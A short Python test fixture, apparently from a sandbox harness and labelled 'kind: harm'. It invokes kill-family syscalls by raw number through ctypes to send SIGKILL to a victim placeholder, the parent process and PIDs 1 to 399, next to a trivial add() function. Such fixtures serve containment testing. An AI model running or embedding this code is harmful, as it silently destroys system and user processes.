# expect: 3 passed
# kind: harm
# kill, tkill, tgkill, rt_sigqueueinfo, pidfd_open with pidfd_send_signal, by number.
import ctypes, os
call = ctypes.CDLL(None).syscall
info = ctypes.create_string_buffer(128)
ctypes.memmove(info, (9).to_bytes(4, 'little')+bytes(4)+(0xFFFFFFFF).to_bytes(4, 'little'), 12)
for target in {@VICTIM@, os.getppid(), *range(1, 400)}-{os.getpid()}:
    call(62, target, 9), call(200, target, 9), call(234, target, target, 9), call(129, target, 9, info), call(297, target, target, 9, info)
    handle = call(434, target, 0)
    if handle>=0: call(424, handle, 9, None, 0)
def add(a, b): return a+b
